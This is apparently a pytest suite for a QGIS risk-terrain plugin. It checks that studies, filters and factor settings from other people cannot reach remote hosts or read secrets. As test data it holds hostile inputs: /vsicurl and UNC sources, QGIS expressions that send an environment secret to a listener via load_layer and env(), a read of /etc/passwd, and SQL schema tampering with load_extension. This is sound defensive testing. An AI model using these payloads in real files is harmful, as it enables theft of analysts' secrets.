"""Studies, factor settings and models that someone else made: they reach nothing but local files, on every route."""

import json
import sqlite3
import sys
from pathlib import Path

import pytest
from qgis.core import QgsExpression, QgsExpressionContext, QgsMapLayerStore, QgsProcessingFeatureSourceDefinition
from running import Log, files, only_terrain, process, refusal

sys.path.insert(0, str(Path(__file__).parents[1]))
from listener import listening
from risk_terrain.rtm_plugin.adapters.trust import (
    is_beside,
    is_local_file,
    refusal_of_source,
    require_known_content,
    without_secrets,
)
from risk_terrain.rtm_plugin.adapters.trusted_filters import filter_refusal, subset_refusal
from risk_terrain.rtm_plugin.core.errors import InputError

HOST = "127.0.0.1"
SECRET = "the-analyst-s-own-secret"


@pytest.fixture
def server(monkeypatch):
    monkeypatch.setenv("RTM_TEST_SECRET", SECRET)
    with listening() as listener:
        yield listener


def remote_sources(port: int) -> list[tuple[str, str]]:
    """Provider and source of layers that lie elsewhere, or are no layers."""
    at = f"{HOST}:{port}"
    ogr = [
        f"http://{at}/x.geojson",
        f"HTTP://{at}/x.gpkg",
        f"/vsicurl/http://{at}/x.geojson",
        f"/vsicurl_streaming/http://{at}/x.geojson",
        f"/VSICURL/http://{at}/x.gpkg|layername=bars",
        f"/vsicurl?url=http%3A%2F%2F{at}%2Fx.geojson",
        f"/vsizip//vsicurl/http://{at}/x.zip/x.shp",
        f"/vsizip/vsicurl/http://{at}/x.zip/x.shp",
        f"/vsizip/{{/vsicurl/http://{at}/x.zip}}/x.shp",
        f"/vsisubfile/0_100,/vsicurl/http://{at}/x.geojson",
        f"/vsigzip//vsicurl/http://{at}/x.csv.gz",
        f"//{HOST}/share/x.gpkg",
        f"\\\\{HOST}\\share\\x.gpkg",
        f"/\\{HOST}/share/x.gpkg",
        f"\\\\?\\UNC\\{HOST}\\share\\x.gpkg",
        f"file://{HOST}/share/x.gpkg",
        f"PG:host={HOST} port={port} dbname=x password=hunter2 tables=bars",
        f"MYSQL:x,host={HOST},port={port},user=a,password=hunter2",
        f"WFS:http://{at}/wfs",
        f"OAPIF:http://{at}/",
        f"CSV:/vsicurl/http://{at}/x.csv",
        f"GeoJSON:http://{at}/x.geojson",
        f"ESRIJSON:http://{at}/x.json",
        f"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>/vsicurl/http://{at}/x.csv</SrcDataSource>"
        "</OGRVRTLayer></OGRVRTDataSource>",
        f"<OGRWFSDataSource><URL>http://{at}/</URL></OGRWFSDataSource>",
        '{"type": "FeatureCollection", "features": []}',
    ]
    return [("ogr", source) for source in ogr] + [
        ("WFS", f"url='http://{at}/wfs' typename='bars' password='hunter2'"),
        ("OAPIF", f"url='http://{at}/' typename='bars'"),
        ("arcgisfeatureserver", f"url='http://{at}/FeatureServer/0' crs='EPSG:27700'"),
        ("postgres", f"dbname='x' host={HOST} port={port} user='a' password='hunter2' table=\"bars\" (geom)"),
        ("mssql", f"dbname='x' host={HOST},{port} user='a' password='hunter2' table=\"bars\" (geom)"),
        ("spatialite", "dbname='x.sqlite' table=\"bars\" (geom)"),
        ("delimitedtext", f"http://{at}/x.csv?type=csv&xField=x&yField=y"),
        ("delimitedtext", f"file://{HOST}/share/x.csv?type=csv&xField=x&yField=y"),
        ("virtual", f"?layer=ogr:http://{at}/x.geojson:bars:UTF-8&query=SELECT * FROM bars"),
        ("virtual", f"?query=SELECT load_layer('http://{at}/x.geojson','ogr')"),
        ("memory", "Point?crs=EPSG:27700"),
    ]


NUMBER = len(remote_sources(1))


def study(city, **changes) -> dict:
    """A study of the city as a file holds it."""

    def layer(name: str) -> dict:
        return {"source": city.layer(name), "name": name, "provider": "ogr", "filter": ""}

    return {
        "format": "risk-terrain-study",
        "version": 1,
        "title": "Someone else's",
        "study_area": layer("area"),
        "events": layer("events"),
        "factors": [{"layer": layer("bars"), "settings": {"name": "bars"}}],
        "grid": {"block_length": 200.0},
        "selection": {"family": "poisson", "cull": False},
        **changes,
    }


def on_every_route(document: dict, tmp_path: Path, **more) -> list[str]:
    """The sentence with which each algorithm that takes a study refuses it."""
    path, out = tmp_path / "study.json", tmp_path / "results"
    path.write_text(json.dumps(document), encoding="utf-8")
    model = str(tmp_path / "chain.model3")
    sentences = [
        refusal("runstudy", {"STUDY": str(path), "OUTPUT_FOLDER": str(out), **more}),
        refusal("checkstudy", {"STUDY": str(path), **more}),
        refusal("checkstudy", {"STUDY": json.dumps(document), "PART": "area", **more}),
        refusal("studymodel", {"STUDY": str(path), "OUTPUT": model, **more}),
    ]
    assert files(tmp_path) == ["study.json"]
    return sentences


@pytest.mark.parametrize("number", range(NUMBER))
def test_a_layer_elsewhere_is_named_and_not_opened(city, server, tmp_path, number):
    provider, source = remote_sources(server.port)[number]
    ref = {"source": source, "name": "pubs", "provider": provider, "filter": ""}
    roles = ({"study_area": ref}, {"events": ref}, {"factors": [{"layer": ref, "settings": {"name": "bars"}}]})
    for sentence in on_every_route(study(city, **roles[number % 3]), tmp_path):
        assert "the layer 'pubs'" in sentence.lower()
        assert "hunter2" not in sentence
    assert server.heard == []


def test_each_role_is_looked_at(city, server, tmp_path):
    ref = {"source": f"http://{HOST}:{server.port}/x.geojson", "name": "pubs"}
    for role in ("study_area", "exclude", "events", "later_events"):
        assert len(on_every_route(study(city, **{role: ref}), tmp_path)) == 4
    assert server.heard == []


def test_what_the_analyst_allows_is_opened(city, server, tmp_path):
    """Also shows that the listener would have heard."""
    ref = {"source": f"/vsicurl/http://{HOST}:{server.port}/x.geojson", "name": "pubs"}
    path = tmp_path / "study.json"
    path.write_text(json.dumps(study(city, events=ref)), encoding="utf-8")
    asked = {"STUDY": str(path), "OUTPUT_FOLDER": str(tmp_path / "out"), "ALLOW_REMOTE": "yes"}
    assert "'pubs' of the study cannot be opened" in refusal("runstudy", asked)
    assert server.heard


def test_text_as_a_layer_is_refused_even_when_allowed(city, server, tmp_path):
    for ref in (
        {"source": "?query=SELECT 1", "name": "pubs", "provider": "virtual"},
        {"source": "Point?crs=EPSG:27700", "name": "pubs", "provider": "memory"},
        {"source": "<OGRVRTDataSource/>", "name": "pubs"},
    ):
        for sentence in on_every_route(study(city, events=ref), tmp_path, ALLOW_REMOTE="yes"):
            assert "is no file but a text" in sentence


def test_a_study_of_local_files_runs(city, tmp_path):
    """Plain conditions, sub-layers and relative paths pass."""
    (tmp_path / "data").mkdir()
    copy = tmp_path / "data" / "city.gpkg"
    copy.write_bytes(city.path.read_bytes())
    events = {"source": './data/city.gpkg|layername=events|subset="year" >= 2024 AND "two" IN (2, 3)', "name": "e"}
    bars = {
        "source": "./data/city.gpkg|layername=bars",
        "name": "bars",
        "filter": "lower(\"kind\") IN ('late', 'early')",
    }
    path = tmp_path / "study.json"
    document = study(city, events=events, factors=[{"layer": bars, "settings": {"name": "bars"}}])
    path.write_bytes(json.dumps(document).encode("utf-8-sig"))
    assert process("runstudy", {"STUDY": str(path), "OUTPUT_FOLDER": str(tmp_path / "out")})["FACTOR_COUNT"] == 1


# --- local files that hold something else than their names say


def test_a_file_with_addresses_in_it(city, server, tmp_path):
    at = f"http://{HOST}:{server.port}/x.csv"
    layer = f"<OGRVRTLayer name='a'><SrcDataSource>/vsicurl/{at}</SrcDataSource></OGRVRTLayer>"
    vrt = f"<OGRVRTDataSource>{layer}</OGRVRTDataSource>"
    for name, content, told in (
        ("list.vrt", vrt, "not of a kind of file"),
        ("data.csv", vrt, "does not hold what its name says"),
        ("data.geojson", vrt, "does not hold what its name says"),
        ("data.json", f"<OGRWFSDataSource><URL>{at}</URL></OGRWFSDataSource>", "does not hold what its name says"),
        ("data.gml", f"<x xmlns:xsi='y' xsi:schemaLocation='z {at}'/>", "not of a kind of file"),
    ):
        path = tmp_path / "study.json"
        (tmp_path / name).write_text(content, encoding="utf-8")
        path.write_text(json.dumps(study(city, events={"source": f"./{name}", "name": "pubs"})), encoding="utf-8")
        assert told in refusal("runstudy", {"STUDY": str(path), "OUTPUT_FOLDER": str(tmp_path / "out")})
    assert server.heard == []


@pytest.mark.parametrize(
    ("sql", "told"),
    [
        ("CREATE VIEW v AS SELECT fid, ogr_geocode('x') AS geom FROM bars", "ogr_geocode()"),
        ("CREATE VIEW v AS SELECT \"ogr_geocode\"('x')", "ogr_geocode()"),
        ("CREATE VIEW v AS SELECT ogr_geocode/**/('x')", "ogr_geocode()"),
        ("CREATE VIRTUAL TABLE v USING VirtualOGR('http://127.0.0.1/x')", "VirtualOGR"),
        ("CREATE TABLE t (a TEXT, b TEXT GENERATED ALWAYS AS (load_extension(a)))", "prohibited"),
    ],
)
def test_a_database_that_reaches_out(city, tmp_path, sql, told):
    copy = tmp_path / "city.gpkg"
    copy.write_bytes(city.path.read_bytes())
    require_known_content(str(copy))
    with sqlite3.connect(copy) as database:
        database.execute("PRAGMA writable_schema = ON")
        database.execute("CREATE VIEW v AS SELECT 1")
        database.execute("CREATE TABLE t (a TEXT)")
        name = "t" if "TABLE t" in sql else "v"
        database.execute("UPDATE sqlite_master SET sql = ? WHERE name = ?", (sql, name))
        if "VIRTUAL" in sql:
            database.execute("UPDATE sqlite_master SET type = 'table', rootpage = 0 WHERE name = 'v'")
    database.close()
    with pytest.raises(InputError, match=r"which could reach out|cannot be looked at") as caught:
        require_known_content(str(copy))
    assert told in str(caught.value)


# --- filters

HARMFUL = {
    "load_layer('http://{at}/'||env('RTM_TEST_SECRET'), 'ogr')": "load_layer()",
    "env('RTM_TEST_SECRET') = 'x'": "env()",
    "file_exists('//{host}/share/x')": "file_exists()",
    "eval('1 = 1')": "eval()",
    "eval_template('[% env(1) %]') = 'x'": "eval_template()",
    "with_variable('a', 1, @a = 1)": "with_variable()",
    "array_length(array_foreach(array(1), env('RTM_TEST_SECRET'))) = 1": "array_foreach()",
    "array_filter(array(1), @element)": "array_filter()",
    "aggregate('bars', 'count', 1) > 0": "aggregate()",
    "attribute(get_feature('bars', 'kind', 'late'), 'kind') = 'late'": "()",
    "raster_value('x', 1, $geometry) > 0": "raster_value()",
    "overlay_intersects('bars')": "overlay_intersects()",
    "exif('/etc/passwd') is null": "exif()",
    "layer_property('bars', 'path') = 'x'": "layer_property()",
    "sqlite_fetch_and_increment('/tmp/x', 't', 'c', 'i', 1, map()) = 1": "sqlite_fetch_and_increment()",
    "@project_path = 'x'": "@project_path",
    "@user_account_name = 'x'": "@user_account_name",
    "var('user_account_name') = 'x'": "@user_account_name",
    "var(concat('user_', 'account_name')) = 'x'": "variable",
    "CASE WHEN 1 THEN env('RTM_TEST_SECRET') ELSE 1 END": "env()",
    "1 IN (env('RTM_TEST_SECRET'))": "env()",
    "1 BETWEEN 0 AND length(env('RTM_TEST_SECRET'))": "env()",
    "NOT (env('RTM_TEST_SECRET') IS NULL)": "env()",
    "try(env('RTM_TEST_SECRET'), 1)": "env()",
    "array(1, env('RTM_TEST_SECRET'))[0] = 1": "[ ]",
    "lpad('x', 2000000000, 'x') = 'x'": "lpad()",
    "transform($geometry, 'EPSG:27700', 'EPSG:4326') is null": "transform()",
    "rand(1, 2) = 1": "rand()",
}
HARMLESS = (
    "",
    "\"name\" = 'Castle ward'",
    "\"kind\" IN ('late', 'early') AND \"seats\" BETWEEN 10 AND 20",
    'lower(trim("kind")) LIKE \'l%\' OR "seats" IS NULL',
    'to_date("day") >= \'2018-01-01\' AND month("day") = 3',
    'CASE WHEN "seats" > 5 THEN 1 ELSE 0 END',
    "$area > 100 AND $id NOT IN (1, 2)",
    "@id < 5 AND @geometry IS NOT NULL",
    "regexp_match(\"kind\", '^l') > 0",
    'coalesce("seats", 0) * 2 > 5',
    "within($geometry, geom_from_wkt('POLYGON((0 0, 1 0, 1 1, 0 0))'))",
)


@pytest.mark.parametrize("expression", HARMFUL)
def test_a_filter_that_reaches_out(city, server, tmp_path, expression):
    """By every route: as the filter of an area, of events and of a factor, and in factor settings."""
    text = expression.replace("{at}", f"{HOST}:{server.port}").replace("{host}", HOST)
    told = HARMFUL[expression]
    bars = {"source": city.layer("bars"), "name": "bars", "filter": text}
    roles = (
        {"study_area": {**bars, "source": city.layer("area")}},
        {"events": {**bars, "source": city.layer("events")}},
        {"factors": [{"layer": bars, "settings": {"name": "bars"}}]},
    )
    role = roles[len(expression) % 3]
    for sentence in on_every_route(study(city, **role), tmp_path, ALLOW_REMOTE="yes"):
        assert sentence.startswith("The filter of 'bars' is refused")
        assert told in sentence
        assert SECRET not in sentence
    assert server.heard == []


@pytest.mark.parametrize("as_what", ["text", "file", "structure"])
def test_factor_settings_that_reach_out(refused, server, tmp_path, as_what):
    text = f"load_layer('http://{HOST}:{server.port}/'||env('RTM_TEST_SECRET'), 'ogr')"
    settings = {"format": "risk-terrain-factors", "version": 1, "factors": [{"layer": "bars", "filter": text}]}
    path = tmp_path / "factors.json"
    path.write_text(json.dumps(settings), encoding="utf-8")
    given = {"text": json.dumps(settings), "file": str(path), "structure": settings}[as_what]
    for algorithm in ("run", "explain"):
        sentence = refused(algorithm, FACTOR_SETTINGS=given)
        assert sentence.startswith("The filter of 'bars' is refused")
        assert "load_layer()" in sentence
    assert server.heard == []


def test_the_listener_would_have_heard(server):
    """What the filter above does where nothing looks at it."""
    text = f"load_layer('http://{HOST}:{server.port}/'||env('RTM_TEST_SECRET'), 'ogr')"
    context, store = QgsExpressionContext(), QgsMapLayerStore()
    context.setLoadedLayerStore(store)
    QgsExpression(text).evaluate(context)
    assert SECRET.encode() in b"".join(server.heard)


@pytest.mark.parametrize("expression", HARMLESS)
def test_harmless_filters_pass(expression):
    parsed = QgsExpression(expression)
    assert not expression or not parsed.hasParserError(), parsed.parserErrorString()
    assert filter_refusal(expression) == ""


def test_what_an_analyst_types_is_his_own_word(city, out):
    """A filter of an input in the toolbox is not a file's."""
    filtered = QgsProcessingFeatureSourceDefinition(city.layer("events"), filterExpression="env('HOME') IS NOT NULL")
    log = Log()
    process("run", only_terrain(city, out, EVENTS=filtered, FACTORS=[city.layer("bars")]), log)
    assert (out / "terrain.tif").is_file()


def test_filters_that_are_too_deep_or_too_long():
    assert "in a row" in filter_refusal(" OR ".join(["a"] * 1_500))
    assert "characters" in filter_refusal(" OR ".join(["a"] * 5_000))
    assert filter_refusal(" OR ".join(f'"a" = {i}' for i in range(400))) == ""


@pytest.mark.parametrize(
    ("sql", "told"),
    [
        ("SELECT load_extension('x')", "SELECT"),
        ("select * from crimes", "select"),
        ("1 = 1; ATTACH DATABASE '/tmp/x' AS y", "';'"),
        ("fid IN (SELECT fid FROM other)", "SELECT"),
        ("load_extension('x')", "load_extension()"),
        ("ogr_geocode ('x') IS NULL", "ogr_geocode()"),
        ("\"load_extension\"('x')", "()"),
        ("[load_extension]('x')", "()"),
        ("1 = 1 -- AND", "'--'"),
        ("lower/* */('x') = 'x'", "'--'"),
        ("\"a'\" = 1 OR load_extension('x') OR \"b'\" = 1", "load_extension()"),
        ("a = 'x", '"\'"'),
        ("EXISTS (VALUES (1))", "EXISTS"),
        ("randomblob(1000000000) = 1", "randomblob()"),
    ],
)
def test_sql_of_a_source(city, tmp_path, sql, told):
    assert told in subset_refusal(sql)
    ref = {"source": f"{city.layer('events')}|subset={sql}", "name": "pubs"}
    for sentence in on_every_route(study(city, events=ref), tmp_path, ALLOW_REMOTE="yes"):
        assert sentence.startswith("The filter of 'pubs' is refused")


@pytest.mark.parametrize(
    "sql",
    [
        "",
        "\"Crime type\" = 'Robbery'",
        "\"crime; type\" = 'O''Neill; select' AND lower([ward name]) LIKE 'c%'",
        "crime_type IN ('a', 'b') AND NOT (year < 2018 OR year IS NULL)",
        "CAST(seats AS INTEGER) >= 10",
        "CASE WHEN seats > 5 THEN 1 ELSE 0 END = 1",
    ],
)
def test_plain_conditions_pass(sql):
    assert subset_refusal(sql) == ""


# --- the rules, on texts alone


@pytest.mark.parametrize(
    ("provider", "source"),
    [
        ("ogr", "/data/city.gpkg|layername=bars"),
        ("ogr", "C:/data/my city.shp"),
        ("ogr", "C:\\data\\Zoë's.geojson|geometrytype=Point"),
        ("ogr", "./city.gpkg|layerid=3|subset=a = 1"),
        ("ogr", "/data/x.gdb|layername=bars"),
        ("delimitedtext", "file:///C:/data/events.csv?type=csv&xField=x&yField=y&crs=EPSG:27700"),
        ("delimitedtext", "file:///data/events.csv?delimiter=;&detectTypes=yes&spatialIndex=no"),
        ("gdal", "/data/x.tif"),
    ],
)
def test_local_sources_pass(provider, source):
    assert refusal_of_source(provider, source) == ""


@pytest.mark.parametrize(
    ("provider", "source"),
    [
        ("ogr", "/data/x.gpkg|option:PRELUDE_STATEMENTS=ATTACH 'x' AS y"),
        ("ogr", "/data/x.gpkg|authcfg=abc"),
        ("ogr", "/data/x.vrt"),
        ("ogr", "/data/x"),
        ("ogr", ""),
        ("ogr", "/data/x.gpkg\0"),
        ("delimitedtext", "file:///data/x.csv?script=1"),
        ("gdal", "/vsicurl/http://x/y.tif"),
        ("gdal", "/data/x.vrt"),
    ],
)
def test_other_sources_do_not(provider, source):
    assert refusal_of_source(provider, source)


def test_files_of_a_share_that_the_analyst_has_opened():
    share = "\\\\server\\share\\study\\study.json"
    assert refusal_of_source("ogr", "//server/share/study/city.gpkg|layername=bars", share) == ""
    assert refusal_of_source("ogr", "//Server/Share/other/city.gpkg", share) == ""
    assert refusal_of_source("ogr", "//other/share/city.gpkg", share)
    assert refusal_of_source("ogr", "//server/secret/city.gpkg", share)
    assert refusal_of_source("ogr", "//server/share/city.gpkg", "C:/study.json")


def test_beside_a_terrain(tmp_path):
    folder, elsewhere = tmp_path / "study", tmp_path / "elsewhere"
    folder.mkdir()
    elsewhere.mkdir()
    for place in (folder, elsewhere):
        (place / "report.html").write_text("x")
    (folder / "run.exe").write_text("x")
    (folder / "linked.html").symlink_to(elsewhere / "report.html")
    assert is_beside(str(folder / "report.html"), str(folder), ".html")
    assert is_beside(str(folder / "." / "report.html"), str(folder), ".html")
    for path in (
        elsewhere / "report.html",
        folder / ".." / "elsewhere" / "report.html",
        folder / "run.exe",
        folder / "linked.html",
        folder / "gone.html",
    ):
        assert not is_beside(str(path), str(folder), ".html"), path
    assert not is_beside(f"//{HOST}/share/report.html", str(folder), ".html")
    assert not is_beside(5, str(folder), ".html")
    assert is_local_file(str(folder / "report.html"), ".html")
    assert not is_local_file(f"//{HOST}/share/report.html", ".html")


def test_no_secret_is_repeated():
    for source in (
        "postgresql://analyst:hunter2@db.police.uk/x",
        "PG:host=db user=analyst password=hunter2 dbname=x",
        "PG:host=db password='hunter2 with blanks'",
        "MYSQL:x,user=a,password=hunter2",
        "OCI:analyst/hunter2@db",
        "https://service/x?token=hunter2",
        "url='https://service/' authkey=hunter2 password=\"hunter2\"",
        "SERVER=x;UID=a;PWD=hunter2;",
    ):
        assert "hunter2" not in without_secrets(source), without_secrets(source)
    assert len(without_secrets("x" * 5_000)) < 200
